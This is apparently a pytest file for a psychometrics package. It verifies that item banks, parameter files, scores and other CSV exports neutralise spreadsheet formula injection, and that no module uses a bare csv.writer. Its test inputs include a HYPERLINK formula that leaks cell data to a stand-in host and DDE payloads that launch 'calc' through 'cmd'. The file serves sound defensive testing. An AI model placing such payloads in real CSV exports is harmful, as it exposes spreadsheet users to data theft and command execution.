"""CSV formula injection: every CSV writer neutralises text a spreadsheet would run as a formula.

The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection): a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote. Numbers stay
numbers. One test per writer, plus a guard that no module builds a bare ``csv.writer``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from test_bank_lint import BASE, OTHER, write_bank

from psychometrics.bank import load_bank
from psychometrics.bank.csvio import bank_to_csv
from psychometrics.cli import main
from psychometrics.fileio import csv_safe_cell, safe_csv_writer
from psychometrics.irt.models import ItemParameters
from psychometrics.irt.params_io import params_to_csv, write_params

PACKAGE = Path(__file__).resolve().parents[1] / "psychometrics"
ATTACKS = (
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_a_leading_quote(text):
    assert csv_safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-1.5", "+2", "0.25", "-3e-05", "DA-0001", "", "a=b", 3, None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_safe_cell(value) == value


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _no_live_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell or cell[0] not in "=+@\t\r" or cell[0] == "'", cell
        if cell.startswith("-"):
            assert re.fullmatch(r"-[\d.eE+-]+", cell), cell


def test_safe_writer_rows():
    buf = io.StringIO()
    writer = safe_csv_writer(buf)
    writer.writerows([ATTACKS, ["-0.5", "1"]])
    cells = _cells(buf.getvalue())
    assert cells[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert cells[len(ATTACKS) :] == ["-0.5", "1"]


def test_bank_export_csv(tmp_path):
    item = {**BASE, "stem": ATTACKS[3] + "\n", "options": {**BASE["options"], "B": ATTACKS[0]}}
    bank = load_bank(write_bank(tmp_path, item, OTHER))
    text = bank_to_csv(list(bank))
    _no_live_formula(text)
    assert "'" + ATTACKS[3] in _cells(text)
    out = tmp_path / "bank.csv"
    result = CliRunner().invoke(
        main, ["bank", "export", str(tmp_path / "bank"), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    _no_live_formula(out.read_text())


def test_params_csv_round_trips_neutralised_ids(tmp_path):
    """A PARAMS.csv credkit wrote is read back with the ids it was given."""
    from psychometrics.irt.params_io import read_params

    params = ItemParameters(
        item_ids=(ATTACKS[0], "I2"), model=("2pl", "2pl"), a=np.ones(2), b=np.array([-1.0, 0.5]),
        c=np.zeros(2),
    )  # fmt: skip
    write_params(tmp_path / "p.csv", params)
    assert read_params(tmp_path / "p.csv").item_ids == params.item_ids


def test_params_csv_item_ids():
    params = ItemParameters(
        item_ids=(ATTACKS[1], "I2"), model=("2pl", "2pl"), a=np.ones(2), b=np.array([-1.0, 0.5]),
        c=np.zeros(2),
    )  # fmt: skip
    text = params_to_csv(params)
    _no_live_formula(text)
    assert "'" + ATTACKS[1] in _cells(text) and "-1" in _cells(text)


def _responses(tmp_path: Path) -> Path:
    rng = np.random.default_rng(7)
    theta = rng.normal(size=120)
    b = np.linspace(-1, 1, 5)
    x = (rng.random((120, 5)) < 1 / (1 + np.exp(-(theta[:, None] - b)))).astype(int)
    names = ["=HYPERLINK(1)", "@SUM(1)", "-1+cmd", "I4", "I5"]
    lines = ["person_id," + ",".join(f'"{n}"' for n in names)]
    for k, row in enumerate(x):
        person = ATTACKS[k % len(ATTACKS)].replace("\r", "").replace('"', "") + f"-{k}"
        lines.append(f'"{person}",' + ",".join(map(str, row)))
    path = tmp_path / "resp.csv"
    path.write_text("\n".join(lines) + "\n")
    return path


def test_score_out_person_ids(tmp_path):
    responses = _responses(tmp_path)
    params = ItemParameters(
        item_ids=("=HYPERLINK(1)", "@SUM(1)", "-1+cmd", "I4", "I5"), model=("2pl",) * 5,
        a=np.ones(5), b=np.linspace(-1, 1, 5), c=np.zeros(5),
    )  # fmt: skip
    write_params(tmp_path / "params.csv", params)
    out = tmp_path / "scores.csv"
    result = CliRunner().invoke(
        main, ["score", str(responses), "--params", str(tmp_path / "params.csv"), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.read_text()
    _no_live_formula(text)
    assert any(c.startswith("'=HYPERLINK") for c in _cells(text))


def test_calibrate_out_item_ids(tmp_path):
    responses = _responses(tmp_path)
    out = tmp_path / "params.csv"
    result = CliRunner().invoke(
        main, ["calibrate", str(responses), "--model", "rasch", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.read_text()
    _no_live_formula(text)
    assert "'=HYPERLINK(1)" in _cells(text) and "'-1+cmd" in _cells(text)


def test_analysis_table():
    from psychometrics.cli.analysis import _to_csv

    text = _to_csv([{"item_id": ATTACKS[2], "p": 0.5}], ["item_id", "p"])
    _no_live_formula(text)
    assert "'" + ATTACKS[2] in _cells(text)


def test_retake_assignments():
    from types import SimpleNamespace

    from psychometrics.cli.retakes import _csv_text

    row = SimpleNamespace(person_id=ATTACKS[0], form_id=ATTACKS[1], overlap=None, status="ok",
                          earliest_date=None, reason="@x")  # fmt: skip
    text = _csv_text([row])
    _no_live_formula(text)
    assert "'" + ATTACKS[0] in _cells(text)


def test_no_module_builds_a_bare_csv_writer():
    """Every CSV the package writes goes through fileio.safe_csv_writer."""
    offenders = []
    exempt = {"fileio.py"}
    for path in PACKAGE.rglob("*.py"):
        if str(path.relative_to(PACKAGE)) in exempt:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []
